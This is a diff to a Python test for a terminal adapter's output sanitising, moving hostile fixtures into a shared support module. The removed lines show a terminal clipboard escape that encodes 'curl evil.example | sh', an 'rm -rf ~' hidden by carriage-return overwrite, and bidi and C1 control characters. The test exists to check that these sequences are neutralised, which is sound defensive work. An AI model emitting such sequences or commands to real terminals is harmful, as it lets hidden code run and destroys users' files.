@@ -21,21 +21,7 @@ from adapters.base import Outgoing
 from adapters.terminal import TerminalAdapter
 from runtime.text import terminal_safe
 
-from .test_cli import POTLUCK, potluck
-
-CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
-CLEAR = "\x1b[2J\x1b[H"
-BIDI = "\u202eevil\u202c \u2066isolate\u2069"
-C1 = "\x9b31m\x9d0;title\x9c"  # CSI and OSC as single C1 characters, no ESC needed
-OVERWRITE = "innocent\rrm -rf ~\x08\x08"
-HOSTILE = CLIPBOARD + CLEAR + BIDI + C1 + OVERWRITE
-# What a terminal would act on; none of these may reach it from the text above.
-ACTIVE = ["\x1b", "\x07", "\x08", "\r", "\x9b", "\x9c", "\x9d", "\u202e", "\u2066", "\u2069"]
-
-
-def assert_inert(output: str) -> None:
-    found = [repr(c) for c in ACTIVE if c in output]
-    assert not found, f"{found} reached the terminal: {output!r}"
+from .support import CLEAR, HOSTILE, POTLUCK, assert_inert, potluck
 
 
 @pytest.mark.parametrize(
